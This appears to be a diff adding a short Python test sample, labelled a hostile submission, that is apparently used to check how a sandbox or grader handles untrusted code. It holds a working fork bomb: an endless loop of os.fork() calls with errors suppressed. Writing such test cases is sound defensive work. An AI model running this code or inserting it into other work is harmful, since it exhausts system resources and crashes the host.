@@ -1,0 +1,8 @@
+# Hostile submission: a fork bomb.
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
